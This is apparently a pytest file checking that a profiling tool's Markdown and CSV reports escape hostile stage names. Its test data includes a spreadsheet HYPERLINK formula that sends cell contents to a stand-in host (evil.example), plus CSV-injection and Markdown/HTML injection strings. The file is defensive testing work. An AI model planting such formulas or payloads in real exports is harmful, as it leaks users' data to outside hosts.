"""What a run file says is plain text in every format it is written out in (#26, 6): Markdown
(GitHub job summaries: no links, mentions, HTML or emphasis from data) and CSV (no formulas)."""

from __future__ import annotations

import csv
import io
import re
import sqlite3

from memtop.engine.report.formats import _csv, _md

from conftest import run_memtop, write_run

HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") **bold** @maintainer "
           "&#x202E;gnp.exe [x](http://evil.example) www.evil.example <img src=x> ~~gone~~")


def test_markdown_cells_carry_no_markup_from_data():
    out = _md(HOSTILE)
    assert "&#x202E;" not in out and "&amp;#x202E;" in out  # a reference shown, not decoded
    assert "**" not in out and "~~" not in out and "\\<img src=x\\>" in out
    assert re.search(r"(?<!\\)[<>\[\]`|]", out) is None  # every one escaped
    assert "@" not in out and "&#64;maintainer" in out  # no mention
    assert "http://" not in out and "http\\://" in out and "www\\." in out  # no autolink
    assert "](" not in out.replace("\\](", "")


def test_csv_cells_never_start_a_formula():
    for text in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=x"):
        assert str(_csv(text)).startswith("'"), text
    assert _csv("first_inference") == "first_inference" and _csv(-5.0) == -5.0


def test_a_hostile_stage_name_through_show_and_diff(tmp_path):
    path = tmp_path / "h.db"
    write_run(path, "h")
    with sqlite3.connect(path) as db:
        db.execute("UPDATE stages SET name = ?, data = json_set(data, '$.name', ?) "
                   "WHERE seq = 1", (HOSTILE, HOSTILE))
    md = run_memtop("show", str(path), "--format", "markdown")
    assert md.returncode == 0, md.stderr
    assert "**bold**" not in md.stdout and "@maintainer" not in md.stdout
    rows = list(csv.reader(io.StringIO(run_memtop("show", str(path), "--format",
                                                  "csv").stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
